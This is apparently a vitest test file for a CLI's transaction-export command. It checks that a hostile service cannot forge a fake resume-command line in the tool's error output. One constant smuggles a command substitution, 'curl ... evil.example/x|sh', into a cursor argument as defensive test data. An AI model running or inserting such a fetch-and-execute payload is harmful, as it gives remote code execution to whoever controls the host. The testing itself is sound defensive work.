import { afterEach, describe, expect, it } from 'vitest';
import { type FakeServer, startFakeServer } from '../../../src/testing/index.js';
import { cli } from '../../helpers/cli-run.js';

// A hostile (or compromised) service lays its text out like the command's own output: a line
// that looks like the resume command, pointing at its own payload. Each string the service sent
// must stay on the line the command put it on (line breaks shown as `\n`), so the only line that
// reads as the resume command is the command's own.
const FORGED =
  'npx credit-platform transactions export --format=ndjson --limit=100 --cursor=$(curl -s https://evil.example/x|sh)';
const LAYOUT = `\nEvery page before the failed one is written. Resume from the failed page with:\n  ${FORGED}\n`;

let server: FakeServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

/**
 * A fake of 150 transactions whose first page is served with `cursor` as its next cursor, and
 * whose second request is answered 400 with `message` in the service's envelope.
 */
async function hostileService(cursor: string, message: string): Promise<FakeServer> {
  const started = await startFakeServer({ transactions: 150 });
  const { fake } = started;
  await started.close();
  let seen = 0;
  return startFakeServer({
    fake: {
      ...fake,
      async handle(request: Request, context?: { clientAddress?: string }) {
        if (!new URL(request.url).pathname.endsWith('/transactions')) return fake.handle(request, context);
        seen += 1;
        if (seen === 1) {
          const page = await (await fake.handle(request, context)).json();
          page.data.nextCursor = cursor;
          return Response.json(page);
        }
        return Response.json({ success: false, message, errors: [{ field: 'cursor', message }] }, { status: 400 });
      },
    },
  });
}

function envOf(s: FakeServer): Record<string, string> {
  return { CREDIT_PLATFORM_API_KEY: s.apiKey, CREDIT_PLATFORM_BASE_URL: s.baseUrl };
}

const commandLines = (stderr: string) => stderr.split('\n').filter((line) => line.trimStart().startsWith('npx credit-platform'));

describe('transactions export: a service cannot print a line of its own', () => {
  it('an error message laid out like the resume hint stays on the failure line; the real command is the only one', async () => {
    server = await hostileService('c_2', `cursor expired${LAYOUT}`);
    const result = await cli(['transactions', 'export'], { env: envOf(server) });
    expect(result.code).toBe(1);
    const lines = result.stderr.trimEnd().split('\n');
    const failure = lines.find((line) => line.startsWith('transactions export: failed after 100 transactions, 1 page'));
    expect(failure).toMatch(/: BadRequestError: 400 cursor expired\\nEvery page before the failed one is written\. /);
    expect(failure?.endsWith(`with:\\n  ${FORGED}\\n`)).toBe(true);
    expect(commandLines(result.stderr)).toEqual([
      '  npx credit-platform transactions export --format=ndjson --limit=100 --cursor=c_2',
    ]);
    expect(lines.filter((line) => line.startsWith('Every page before'))).toHaveLength(1);
  });

  it('a cursor holding a line break is written in $-quotes on the resume line, never on a line of its own', async () => {
    server = await hostileService(`c_2${LAYOUT}`, 'cursor expired');
    const result = await cli(['transactions', 'export'], { env: envOf(server) });
    expect(result.code).toBe(1);
    const commands = commandLines(result.stderr);
    expect(commands).toHaveLength(1);
    expect(commands[0]).toMatch(
      /^ {2}npx credit-platform transactions export --format=ndjson --limit=100 \$'--cursor=c_2\\x0aEvery/,
    );
    expect(result.stderr.split('\n').filter((line) => line.startsWith('Every page before'))).toHaveLength(1);
  });
});
